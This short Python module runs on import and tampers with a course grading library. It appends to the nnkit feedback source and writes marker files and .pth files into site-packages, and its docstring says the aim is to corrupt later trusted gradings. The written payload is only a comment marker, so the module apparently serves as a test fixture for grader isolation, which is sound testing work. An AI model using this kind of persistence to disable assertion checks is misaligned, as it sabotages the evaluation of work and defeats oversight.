"""Appends to the course library and drops modules beside it (and into site-packages),
so that later gradings, which import nnkit in the trusted process, are corrupted."""

import os
import site
import sys


def _poison():
    try:
        import nnkit.feedback as feedback
    except Exception:
        return
    folder = os.path.dirname(feedback.__file__)
    targets = [(feedback.__file__, "a"), (os.path.join(folder, "_pwned.py"), "w")]
    for path in site.getsitepackages() + [p for p in sys.path if p.endswith("site-packages")]:
        targets.append((os.path.join(path, "nnkit_pwned.pth"), "w"))
    for path, mode in targets:
        try:
            with open(path, mode) as f:
                f.write("\n# PWNED-nnkit: assert_close = lambda *a, **k: None\n")
        except OSError:
            pass


_poison()
